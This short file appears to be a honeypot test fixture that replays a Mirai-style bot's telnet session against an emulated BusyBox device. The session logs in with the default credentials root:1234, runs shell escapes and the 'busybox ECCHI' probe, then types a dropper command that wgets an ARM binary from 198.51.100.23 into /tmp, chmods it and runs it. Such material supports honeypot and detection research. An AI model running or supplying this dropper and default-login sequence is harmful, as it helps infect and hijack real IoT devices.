# the generic box's BusyBox telnetd with a login it accepts (root:1234):
# the ash greeting, the prompt, then what a Mirai-style bot types: its
# shell escapes, the applet probe, the CPU probe through /bin/echo's ELF
# header, a dropper line (recorded, never fetched), and exit
open telnet 23
> root\r\n
> 1234\r\n
> enable\r\n
> system\r\nshell\r\nsh\r\n
> /bin/busybox ECCHI\r\n
> uname -a\r\n
> cd /tmp || cd /var/run; wget http://198.51.100.23/bins/x.arm7 -O .x; chmod 777 .x; ./.x telnet\r\n
> exit\r\n
> exit\r\n
close
